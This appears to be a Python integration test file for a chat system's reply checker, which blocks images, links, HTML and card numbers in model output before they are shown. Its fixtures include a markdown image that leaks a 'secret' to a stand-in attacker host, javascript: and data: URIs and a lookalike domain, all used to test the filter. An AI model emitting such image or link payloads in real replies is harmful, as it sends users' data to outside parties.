"""What a reply may say is checked before it leaves: one correction, then a fixed line, nothing taken back (E5, E2)."""

import asyncio
from collections.abc import Callable
from typing import Any

import pytest

from lanekeeper.lines import HONEST_LINE, WITHHELD_LINE
from lanekeeper.postgres import Database
from lanekeeper.replies.contract import BREAK, MARK, REASONS
from tests.integration.turn.conftest import Talk, kinds, text_of
from tests.integration.turn.reading import TERMINAL, is_valid_history, shown_text
from tests.integration.turn.sender import Sender
from tests.integration.turn.toys import PRICE, call

SEARCH = {"calls": [{"name": "test_look", "args": {"query": "owls"}}]}
PICTURE = "![x](https://evil.example/?leak=secret)"


async def limits_met(talk: Talk) -> list[str]:
    return [row["kind"] for row in await talk.rows("select kind from limit_hits order by id")]


async def remembered(talk: Talk, turn_id: str) -> str:
    rows = await talk.rows("select message from thread_messages where turn_id = %s order by position", turn_id)
    return "".join(row["message"]["content"] for row in rows if row["message"]["type"] == "ai")


async def says_the_same_everywhere(talk: Talk, turn_id: str) -> list[str]:
    """What was shown, once it is sure that the transcript and the model's memory hold the same."""
    chunks = await talk.chunks(turn_id)
    assert [chunk["type"] for chunk in chunks if chunk["type"] in TERMINAL] == ["finish"]
    texts = shown_text(chunks)
    (reply,) = await talk.rows("select parts from messages where role = 'assistant' and turn_id = %s", turn_id)
    assert text_of(reply["parts"]) == " | ".join(texts)
    assert await remembered(talk, turn_id) == BREAK.join(texts)
    return texts


async def test_b076_a_draft_with_a_picture_is_corrected_and_nothing_of_it_was_shown(talk: Talk) -> None:
    sent = await talk.say("hello")
    await talk.script({"text": f"{PICTURE} Hello."}, {"text": "Hello."})
    await talk.run()
    assert await says_the_same_everywhere(talk, sent["turn_id"]) == ["Hello."]
    assert not any("evil" in str(chunk) for chunk in await talk.chunks(sent["turn_id"]))
    corrected = (await talk.requests())[-1]["body"]["messages"]
    assert REASONS["image"] in corrected[-1]["content"]
    assert [message["role"] for message in corrected] == ["system", "user", "system"]
    assert await limits_met(talk) == ["contract_image"]
    assert (await talk.turn(sent["turn_id"]))["state"] == "done"


async def test_b076_words_that_were_shown_before_the_fault_stand_and_the_correction_goes_on_from_them(
    talk: Talk,
) -> None:
    sent = await talk.say("hello")
    await talk.script({"text": f"Owls hunt at night. {PICTURE}"}, {"text": "They hear very well."})
    await talk.run()
    assert await says_the_same_everywhere(talk, sent["turn_id"]) == ["Owls hunt at night. They hear very well."]
    *_, draft, notes = (await talk.requests())[-1]["body"]["messages"]
    assert (draft["role"], draft["content"]) == ("assistant", "Owls hunt at night. ")
    assert REASONS["image"] in notes["content"]
    stored = await talk.rows("select message::text as kept from thread_messages")
    assert not any("evil" in row["kept"] or REASONS["image"] in row["kept"] for row in stored)


@pytest.mark.parametrize(
    ("draft", "fault"),
    [
        (PICTURE, "image"),
        ("[x][1]\n\n[1]: https://evil.example", "link"),
        ("<img src=https://evil.example>", "html"),
        ("[x](javascript:alert(1))", "link"),
        ("[x](data:text/html;base64,xxxx)", "link"),
        ("[x](https://example.org.evil.example/a)", "link"),
        ("It is 4111 1111 1111 1111.", "secret"),
        (f"One.\n{MARK}\nTwo.\n{MARK}\nThree.\n{MARK}\nFour.", "messages"),
        ("word " * 2000, "length"),
    ],
)
async def test_b076_a_second_fault_ends_with_a_fixed_line_of_its_own(talk: Talk, draft: str, fault: str) -> None:
    sent = await talk.say("hello")
    await talk.script({"text": draft}, {"text": draft})
    await talk.run()
    texts = await says_the_same_everywhere(talk, sent["turn_id"])
    assert texts[-1] == WITHHELD_LINE.en
    assert not any("evil" in text or "4111" in text for text in texts)
    turn = await talk.turn(sent["turn_id"])
    assert (turn["state"], turn["failure"]) == ("done", f"contract_{fault}")
    assert (await talk.chunks(sent["turn_id"]))[-1]["finishReason"] == "other"
    assert await limits_met(talk) == [f"contract_{fault}", f"contract_{fault}_line"]
    assert len(await talk.requests()) == 2

    await talk.say("and now")
    await talk.script({"text": "Fine."})
    await talk.run()
    assert (await talk.history())[-1] == ("assistant", "Fine.")
    assert is_valid_history((await talk.requests())[-1]["body"]["messages"])


async def test_links_of_tools_and_of_the_person_leave_as_they_stand(talk: Talk) -> None:
    sent = await talk.say("is https://mine.example/p?q=1 about owls?")
    final = "Yes, https://mine.example/p?q=1 is, and [this one](https://example.org/a) too."
    await talk.script(SEARCH, {"text": final})
    await talk.run()
    assert await says_the_same_everywhere(talk, sent["turn_id"]) == [final]
    assert await limits_met(talk) == []


async def test_a_link_that_only_a_file_holds_does_not_leave_and_one_that_its_person_wrote_does(
    talk: Talk, database_as: Callable[[str], Database]
) -> None:
    """A file may come from anybody: what stands in it is data, also when it is an address."""
    sender = Sender.of(talk, database_as("accept"))
    upload_id = await sender.give(b"Guide: https://files.example/guide. More: https://both.example/b.", "notes.txt")
    await sender.say("Where does https://both.example/b stand in my notes, and where is the guide?", upload_id)
    await talk.script({"text": "https://both.example/b is its second link, the guide is https://files.example/guide."})
    await talk.script({"text": "given in its first line."})
    await talk.run()
    assert await talk.history() == [
        ("user", "Where does https://both.example/b stand in my notes, and where is the guide?"),
        ("assistant", "https://both.example/b is its second link, the guide is given in its first line."),
    ]
    assert await limits_met(talk) == ["contract_link"]
    assert "say where in the file it stands" in (await talk.requests())[-1]["body"]["messages"][-1]["content"]


async def test_facts_of_tools_leave_as_they_are_and_are_never_rewritten(talk: Talk) -> None:
    sent = await talk.say("what does it cost?")
    await talk.script(
        {"calls": [call(PRICE)]},
        {"text": "It costs 12.05 EUR."},
        {"text": "It costs 12.50 EUR, and the reference is KX42ZP."},
    )
    await talk.run(talk.new_engine(tools=[PRICE]))
    (text,) = await says_the_same_everywhere(talk, sent["turn_id"])
    assert text == "It costs 12.50 EUR, and the reference is KX42ZP."
    assert await limits_met(talk) == ["contract_fact"]


async def test_each_short_message_is_a_part_of_its_own_and_the_model_remembers_where_it_ended_one(talk: Talk) -> None:
    sent = await talk.say("hello")
    await talk.script({"text": f"Hello Ana.\n\n{MARK}\n\nWhat can I do for you?"})
    await talk.run()
    assert await says_the_same_everywhere(talk, sent["turn_id"]) == ["Hello Ana.", "What can I do for you?"]
    chunks = await talk.chunks(sent["turn_id"])
    assert kinds(chunks)[3:-1] == ["start-step", *["text-start", "text-end"] * 2, "finish-step"]
    starts = [chunk["id"] for chunk in chunks if chunk["type"] == "text-start"]
    assert len(set(starts)) == 2

    await talk.say("and now")
    await talk.run()
    sent_again = (await talk.requests())[-1]["body"]["messages"]
    assert sent_again[2]["content"] == f"Hello Ana.{BREAK}What can I do for you?"


async def test_what_was_said_beside_tool_calls_counts_among_a_turns_messages(talk: Talk) -> None:
    sent = await talk.say("owls?")
    draft = {"text": f"One.\n{MARK}\nTwo.\n{MARK}\nThree."}
    await talk.script({"text": "Let me look.", **SEARCH}, draft, {"text": f"{MARK}\nTwo and three."})
    await talk.run()
    assert shown_text(await talk.chunks(sent["turn_id"])) == ["Let me look.", "One.", "Two and three."]
    assert await limits_met(talk) == ["contract_messages"]


async def test_words_beside_tool_calls_never_take_the_place_of_the_answer(talk: Talk) -> None:
    sent = await talk.say("owls?")
    await talk.script(
        {"text": "Let me look.", **SEARCH},
        {"text": "And elsewhere.", **SEARCH},
        {"text": "Once more.", **SEARCH},
        {"text": "Still nothing.", **SEARCH},
        {"text": "Owls hunt at night."},
    )
    await talk.run()
    texts = ["Let me look.", "And elsewhere.", "Owls hunt at night."]
    assert shown_text(await talk.chunks(sent["turn_id"])) == texts
    assert await remembered(talk, sent["turn_id"]) == "".join(texts)
    assert await limits_met(talk) == ["message_left_out"] * 2
    assert (await talk.turn(sent["turn_id"]))["state"] == "done"


async def test_a_message_beside_tool_calls_that_would_be_the_last_waits_and_is_left_out(talk: Talk) -> None:
    sent = await talk.say("owls?")
    await talk.script({"text": f"One.\n{MARK}\nTwo.\n{MARK}\nThree.", **SEARCH}, {"text": "Owls hunt at night."})
    await talk.run()
    assert shown_text(await talk.chunks(sent["turn_id"])) == ["One.", "Two.", "Owls hunt at night."]
    assert await limits_met(talk) == ["message_left_out"]


async def test_an_answer_in_its_last_message_that_grew_too_long_is_shown_and_brought_to_its_end(talk: Talk) -> None:
    sent = await talk.say("owls?")
    await talk.script(
        {"text": "Let me look.", **SEARCH},
        {"text": "And elsewhere.", **SEARCH},
        {"text": "word " * 30},
        {"text": "The end."},
    )
    await talk.run(talk.new_engine(message_chars=100))
    *_, last = shown_text(await talk.chunks(sent["turn_id"]))
    assert last == "word " * 20 + "The end."


async def test_a_card_number_set_apart_over_two_steps_does_not_leave(talk: Talk) -> None:
    sent = await talk.say("owls?")
    await talk.script({"text": "It is 4111 1111", **SEARCH}, {"text": "1111 1111."}, {"text": "I may not say it."})
    await talk.run()
    assert shown_text(await talk.chunks(sent["turn_id"])) == ["It is 4111 1111", "I may not say it."]
    assert await limits_met(talk) == ["contract_secret"]


async def test_a_break_within_a_line_is_corrected_with_what_to_do(talk: Talk) -> None:
    sent = await talk.say("hello")
    await talk.script({"text": f"Say {MARK} or not."}, {"text": "nothing at all."})
    await talk.run()
    assert await says_the_same_everywhere(talk, sent["turn_id"]) == ["Say nothing at all."]
    assert "on a line of its own" in (await talk.requests())[-1]["body"]["messages"][-1]["content"]


async def test_b027_a_draft_whose_worker_died_in_its_second_message_is_continued_there(talk: Talk) -> None:
    sent = await talk.say("hello")
    text = f"Hello Ana.\n{MARK}\nThe train leaves at noon from platform four."
    await talk.script({"text": text, "token_delay_ms": 40})
    running = asyncio.create_task(talk.run(talk.new_engine()))

    async def has_second() -> bool:
        return len(shown_text(await talk.chunks(sent["turn_id"]))) == 2

    await talk.until(has_second)
    running.cancel()
    with pytest.raises(asyncio.CancelledError):
        await running
    await talk.lapse()
    await talk.tick.run()
    await talk.script({"text": text})
    await talk.run(talk.new_engine())
    texts = await says_the_same_everywhere(talk, sent["turn_id"])
    assert texts == ["Hello Ana.", "The train leaves at noon from platform four."]


async def test_a_stop_in_a_second_message_keeps_what_was_said(talk: Talk) -> None:
    sent = await talk.say("hello")
    await talk.script({"text": f"Hello Ana.\n{MARK}\n" + "word " * 40, "token_delay_ms": 40})
    running = asyncio.create_task(talk.run())

    async def has_second() -> bool:
        return len(shown_text(await talk.chunks(sent["turn_id"]))) == 2

    await talk.until(has_second)
    await talk.superuser.execute("update lanes set stop_turn_id = %s", [sent["turn_id"]])
    await running
    first, second = shown_text(await talk.chunks(sent["turn_id"]))
    assert await remembered(talk, sent["turn_id"]) == f"{first}{BREAK}{second}"
    assert await talk.history() == [("user", "hello"), ("assistant", f"{first} | {second}")]


async def test_a_correction_that_fails_leaves_the_words_that_were_shown_and_the_honest_line(talk: Talk) -> None:
    sent = await talk.say("hello")
    await talk.script({"text": f"Owls hunt at night. {PICTURE}"}, {"error": 500}, {"text": "never asked for"})
    await talk.run()
    chunks = await talk.chunks(sent["turn_id"])
    assert shown_text(chunks) == ["Owls hunt at night. ", HONEST_LINE.en]
    assert len(await talk.requests()) == 2
    assert (await talk.turn(sent["turn_id"]))["failure"] == "model_unavailable"
    assert await limits_met(talk) == ["contract_image", "model_unavailable"]


async def test_a_worker_that_died_after_a_fixed_line_was_recorded_says_it_once(
    talk: Talk, monkeypatch: pytest.MonkeyPatch
) -> None:
    from lanekeeper.turn.ending import Ending
    from tests.integration.turn.deaths import kill_once

    sent = await talk.say("hello")
    await talk.script({"text": f"Owls. {PICTURE}"}, {"text": PICTURE})
    await kill_once(talk, monkeypatch, Ending, "commit", after=False)
    await talk.run(talk.new_engine())
    assert await says_the_same_everywhere(talk, sent["turn_id"]) == ["Owls. ", WITHHELD_LINE.en]


async def test_fixed_lines_are_said_in_the_persons_language(talk: Talk) -> None:
    await talk.judge(language="es", times=4)
    await talk.say("hola, que tal estas")
    await talk.script({"text": PICTURE}, {"text": PICTURE})
    await talk.run()
    await talk.say("y ahora que tal")
    await talk.script({"error": 500}, {"error": 500})
    await talk.run()
    said: list[Any] = [text for role, text in await talk.history() if role == "assistant"]
    assert said[0] == WITHHELD_LINE.es
    assert said[1] != said[0]
    assert "persona" in said[1]
